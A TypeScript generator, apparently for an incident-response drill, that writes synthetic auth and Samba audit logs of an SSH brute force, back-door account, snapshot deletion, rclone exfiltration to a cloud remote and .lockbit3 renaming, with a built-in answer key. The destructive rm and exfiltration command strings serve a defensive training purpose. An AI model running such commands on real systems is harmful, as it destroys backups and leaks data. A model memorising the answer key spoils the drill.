/**
 * Ransomware (ransomware.yaml), on Linux servers: the ERP server's SSH port forwarded to the internet, a
 * brute force of 2,317 wrong passwords over three hours before "administrator" gets in (Saturday 02:11), a root
 * shell and a back-door account, a hop to the file server (03:02), its snapshots deleted (03:10), the shares sent
 * out with rclone (03:25), and on Sunday night the shares renamed to .lockbit3 through Samba (full_audit in
 * syslog). Around it: a week of office work, the vendor's occasional support login, cron and scanners.
 */
import { between, clockTime, cronJobs, daysBetween, OFFICE_HOURS, publicIp, sshScanners, timeOfDay, UBUNTU_CRON } from '../background.js';
import { HOUR, MINUTE } from '../clock.js';
import type { ScenarioContext, ScenarioGenerator, ScenarioTraces } from '../scenario.js';
import type { TruthStep } from '../types.js';
import { LinuxHost } from '../writers/linux.js';

const SECOND = 1000;
const ERP = 'erp-srv01';
const FILES = 'file-srv02';
const ERP_LAN = '192.168.10.11';
/** Wrong passwords before the brute force got in, as the host alert inject says. */
const FAILURES = 2317;

const STAFF = [
  { user: 'wangli', machine: 'pc-fin-03', share: 'finance' },
  { user: 'zhaoqiang', machine: 'pc-wh-01', share: 'warehouse' },
  { user: 'liuyang', machine: 'pc-sales-07', share: 'sales' },
  { user: 'chenxi', machine: 'pc-hr-02', share: 'hr' },
  { user: 'sunhao', machine: 'pc-sales-02', share: 'sales' },
  { user: 'zhoumei', machine: 'pc-fin-01', share: 'finance' },
];
const FILE_NAMES = ['2019年度报表.xlsx', '采购合同-2020Q1.docx', '出库单汇总.xlsx', '客户名单.xlsx', '报价单-欧洲线.xlsx', '员工花名册.xlsx', '工资表-3月.xlsx', '会员导出-20200301.csv', '库存盘点.xlsx', '物流对账单.pdf'];

function generate(ctx: ScenarioContext): ScenarioTraces {
  const { b, zone, rng, start, coverage, scale } = ctx;
  const bg = rng.stream('background');
  const atk = rng.stream('attack');
  const drillDay = zone.dayStart(start);
  const days = daysBetween(zone, coverage.from, coverage.to, drillDay);
  const saturday = zone.dayStart(start, -2);
  const sunday = zone.dayStart(start, -1);

  const erpAuth = b.file({ name: 'erp-srv01-auth.log', parser: 'auth', host: ERP, description: { 'zh-CN': 'ERP 服务器登录与权限日志（/var/log/auth.log）', en: 'ERP server login and privilege log (/var/log/auth.log)' } });
  const fileAuth = b.file({ name: 'file-srv02-auth.log', parser: 'auth', host: FILES, description: { 'zh-CN': '文件服务器登录与权限日志（/var/log/auth.log）', en: 'File server login and privilege log (/var/log/auth.log)' } });
  const fileSyslog = b.file({
    name: 'file-srv02-syslog',
    parser: 'syslog',
    host: FILES,
    description: { 'zh-CN': '文件服务器系统日志（含 Samba full_audit 文件操作审计与计划任务）', en: 'File server system log (Samba full_audit file operations and cron)' },
  });
  const erp = new LinuxHost(ERP, zone, bg.stream('erp'), erpAuth);
  const files = new LinuxHost(FILES, zone, bg.stream('files'), fileAuth, fileSyslog);

  const vendorIp = publicIp(bg);
  const itIp = `192.168.10.${bg.int(50, 90)}`;
  sshScanners(b, erp, bg.stream('scan'), { days, perDay: 18 * scale, validUsers: ['root', 'administrator', 'erp'] });
  cronJobs(b, erp, zone, UBUNTU_CRON, { days, from: coverage.from, to: coverage.to });
  cronJobs(b, files, zone, [...UBUNTU_CRON, { user: 'root', command: '/usr/local/bin/nas-sync.sh >/dev/null 2>&1', daily: '01:00:01', durationMs: 40 * MINUTE }], { days, from: coverage.from, to: coverage.to });

  const life = bg.stream('life');
  for (const day of days) {
    if (!day.workday) continue;
    // IT looks after both servers from the LAN; the vendor now and then from outside.
    for (const host of [erp, files]) {
      if (!life.chance(0.5)) continue;
      const t = between(life, day, '09:30', '17:30');
      const duration = life.int(5, 50) * MINUTE;
      b.at(t, () => {
        const s = host.sshLogin(t, { user: 'administrator', ip: itIp, method: 'password', durationMs: duration });
        if (life.chance(0.5)) host.sudo(t + life.int(1, 10) * MINUTE, { user: 'administrator', tty: s.tty, pwd: '/home/administrator', command: life.pick(['/usr/bin/apt-get update', '/bin/systemctl status smbd', '/usr/bin/du -sh /srv/shares', '/bin/journalctl -u erp -n 200']) });
      });
    }
    if (life.chance(0.2)) {
      const t = between(life, day, '10:00', '16:00');
      b.at(t, () => erp.sshLogin(t, { user: 'administrator', ip: vendorIp, method: 'password', durationMs: life.int(10, 60) * MINUTE }));
    }
    // Staff saving and renaming files on the shares (Samba full_audit).
    const ops = life.poisson(60 * scale);
    for (let i = 0; i < ops; i++) {
      const t = timeOfDay(life, day, OFFICE_HOURS);
      const who = life.pick(STAFF);
      const ip = `192.168.10.${100 + STAFF.indexOf(who)}`;
      const name = life.pick(FILE_NAMES);
      const op = life.weighted([
        ['pwrite', 6],
        ['renameat', 2],
        ['unlinkat', 1],
        ['mkdirat', 1],
      ] as const);
      const path = `${who.share}/${name}`;
      const args = op === 'renameat' ? `${who.share}/~$${name}|${path}` : op === 'mkdirat' ? `${who.share}/新建文件夹` : path;
      b.at(t, () => files.sys(t, 'smbd_audit', null, `${who.user}|${ip}|${who.machine}|shares|${op}|ok|${args}`));
    }
  }

  // --- the attack ---------------------------------------------------------------------------------------------
  const steps: TruthStep[] = [];
  const attackerIp = `185.${atk.int(100, 250)}.${atk.int(0, 255)}.64`;
  const successAt = clockTime(zone, saturday, `02:11:${String(atk.int(5, 50)).padStart(2, '0')}`);
  const bruteStart = successAt - 3 * HOUR + atk.int(0, 5) * MINUTE;
  // 772 connections of three wrong passwords and one of a single one: 2,317 in all, then the right one.
  const connections = Math.floor(FAILURES / 3) + (FAILURES % 3 ? 1 : 0);
  const gap = (successAt - bruteStart - 20 * SECOND) / connections;
  for (let c = 0; c < connections; c++) {
    const t = Math.round(bruteStart + c * gap + atk.int(0, Math.max(0, Math.floor(gap / 3))));
    const attempts = c === connections - 1 && FAILURES % 3 ? FAILURES % 3 : 3;
    b.at(t, () => erp.failedLogin(t, { user: 'administrator', ip: attackerIp, invalid: false, attempts, step: 'exposed-rdp' }));
  }
  let erpTty = 'pts/0';
  b.at(successAt, () => {
    erpTty = erp.sshLogin(successAt, { user: 'administrator', ip: attackerIp, method: 'password', durationMs: 70 * MINUTE, step: 'exposed-rdp', stepLoginOnly: true }).tty;
  });
  steps.push({
    key: 'exposed-rdp',
    title: { 'zh-CN': '暴力破解得手：administrator 口令被猜中', en: 'Brute force succeeded: the administrator password was guessed' },
    description: {
      'zh-CN': `周六 ${zone.plain(bruteStart).slice(11, 16)} 起，${attackerIp} 对 ERP 服务器的 administrator 连续尝试 ${FAILURES} 次错误口令，${zone.plain(successAt).slice(11)} 登录成功。`,
      en: `From ${zone.plain(bruteStart).slice(11, 16)} on Saturday, ${attackerIp} tried ${FAILURES} wrong passwords for administrator on the ERP server and got in at ${zone.plain(successAt).slice(11)}.`,
    },
    time: bruteStart,
    endTime: successAt,
    host: ERP,
    user: 'administrator',
    srcIp: attackerIp,
    ruleNames: ['ssh_bruteforce_then_success', 'ssh_new_source_ip_admin', 'admin_login_off_hours'],
    match: { srcIp: attackerIp },
  });

  const rootAt = successAt + atk.int(60, 150) * SECOND;
  const backdoor = atk.pick(['sysupdate', 'svc_backup', 'mysqld_safe']);
  b.at(rootAt, () => {
    erp.sudo(rootAt, { user: 'administrator', tty: erpTty, pwd: '/home/administrator', command: '/bin/bash', durationMs: 40 * MINUTE, step: 'persistence' });
    const u = rootAt + atk.int(60, 180) * SECOND;
    erp.useradd(u, { name: backdoor, uid: 1003, shell: '/bin/bash', step: 'persistence' });
    erp.passwd(u + atk.int(5, 15) * SECOND, backdoor, 'persistence');
    erp.addToGroup(u + atk.int(20, 40) * SECOND, backdoor, 'sudo', 'persistence');
  });
  steps.push({
    key: 'persistence',
    title: { 'zh-CN': '提权为 root 并新建后门账号', en: 'Root shell and a back-door account' },
    description: {
      'zh-CN': `登录后 administrator 用 sudo 打开 root shell，新建本地账号 ${backdoor} 并加入 sudo 组。`,
      en: `Once in, administrator opened a root shell with sudo, created the local account ${backdoor} and added it to the sudo group.`,
    },
    time: rootAt,
    endTime: rootAt + 4 * MINUTE,
    host: ERP,
    user: 'administrator',
    ruleNames: ['sudo_to_root_shell', 'new_local_account'],
    match: { type: ['privilege.escalation', 'account.create', 'account.change'] },
  });

  const hopAt = clockTime(zone, saturday, `03:02:${String(atk.int(5, 55)).padStart(2, '0')}`);
  const snapAt = clockTime(zone, saturday, `03:10:${String(atk.int(5, 55)).padStart(2, '0')}`);
  const rcloneAt = clockTime(zone, saturday, `03:25:${String(atk.int(5, 55)).padStart(2, '0')}`);
  let fileTty = 'pts/0';
  b.at(hopAt, () => {
    fileTty = files.sshLogin(hopAt, { user: 'administrator', ip: ERP_LAN, method: 'password', durationMs: 2 * HOUR + 10 * MINUTE, step: 'lateral-movement', stepLoginOnly: true }).tty;
  });
  b.at(snapAt, () => files.sudo(snapAt, { user: 'administrator', tty: fileTty, pwd: '/home/administrator', command: '/bin/rm -rf /srv/backup/snapshots', durationMs: 20 * SECOND, step: 'lateral-movement' }));
  steps.push({
    key: 'lateral-movement',
    title: { 'zh-CN': '横向移动到文件服务器并删除快照', en: 'Lateral movement to the file server; snapshots deleted' },
    description: {
      'zh-CN': `${zone.plain(hopAt).slice(11, 16)} administrator 从 ERP 服务器（${ERP_LAN}）登录文件服务器，${zone.plain(snapAt).slice(11, 16)} 用 sudo 删除了本地快照，阻断本地恢复。`,
      en: `At ${zone.plain(hopAt).slice(11, 16)} administrator logged into the file server from the ERP server (${ERP_LAN}); at ${zone.plain(snapAt).slice(11, 16)} sudo deleted the local snapshots, blocking local recovery.`,
    },
    time: hopAt,
    endTime: snapAt,
    host: FILES,
    user: 'administrator',
    srcIp: ERP_LAN,
    ruleNames: ['ssh_new_source_ip_admin', 'admin_login_off_hours'],
    match: { user: 'administrator' },
    toleranceMs: 5 * MINUTE,
  });

  b.at(rcloneAt, () => files.sudo(rcloneAt, { user: 'administrator', tty: fileTty, pwd: '/tmp/.cache', command: '/tmp/.cache/rclone copy /srv/shares mega:bk --transfers 16 -q', durationMs: 95 * MINUTE, step: 'data-exfiltrated' }));
  steps.push({
    key: 'data-exfiltrated',
    title: { 'zh-CN': 'rclone 把共享盘数据传到境外网盘', en: 'rclone sent the shares to a foreign cloud drive' },
    description: {
      'zh-CN': `${zone.plain(rcloneAt).slice(11, 16)} 起，administrator 用 sudo 运行 rclone，把 /srv/shares（含会员导出文件）复制到境外网盘。`,
      en: `From ${zone.plain(rcloneAt).slice(11, 16)} administrator ran rclone with sudo, copying /srv/shares (including a member export) to a foreign cloud drive.`,
    },
    time: rcloneAt,
    host: FILES,
    user: 'administrator',
    ruleNames: [],
    match: { user: 'administrator' },
    toleranceMs: 5 * MINUTE,
  });

  const lockAt = clockTime(zone, sunday, `23:47:${String(atk.int(0, 20)).padStart(2, '0')}`);
  const renames = Math.round(400 * Math.min(scale, 5));
  b.at(lockAt, () => {
    let t = lockAt;
    for (let i = 0; i < renames; i++) {
      const who = STAFF[i % STAFF.length];
      const name = FILE_NAMES[(i * 7) % FILE_NAMES.length];
      const dir = `${who.share}/${['', '2018/', '2019/', '归档/', '备份/'][i % 5]}`;
      const path = `${dir}${i > FILE_NAMES.length ? `${Math.floor(i / FILE_NAMES.length)}-` : ''}${name}`;
      files.sys(t, 'smbd_audit', null, `administrator|${ERP_LAN}|${ERP}|shares|renameat|ok|${path}|${path}.lockbit3`, 'encryption');
      t += atk.int(80, 400);
    }
  });
  steps.push({
    key: 'encryption',
    title: { 'zh-CN': '共享盘文件被批量加密改名（.lockbit3）', en: 'Share files mass-renamed by the encryption (.lockbit3)' },
    description: {
      'zh-CN': `周日 ${zone.plain(lockAt).slice(11, 16)}，ERP 服务器上的 administrator 通过 Samba 在几分钟内把共享盘文件批量改名为 .lockbit3。`,
      en: `On Sunday at ${zone.plain(lockAt).slice(11, 16)}, administrator on the ERP server renamed the share's files to .lockbit3 through Samba within minutes.`,
    },
    time: lockAt,
    endTime: lockAt + renames * 400,
    host: FILES,
    user: 'administrator',
    srcIp: ERP_LAN,
    ruleNames: [],
    match: { source: 'smbd_audit' },
    also: [{ srcIp: ERP_LAN }],
  });

  return {
    steps,
    placeholders: { admin_accounts: ['root', 'administrator'], finance_accounts: ['wangli', 'zhoumei'], app_db_accounts: ['erp'] },
  };
}

export const ransomware: ScenarioGenerator = {
  key: 'ransomware',
  baselineDays: 7,
  evidenceTakenAfterMs: 45 * MINUTE,
  generate,
};
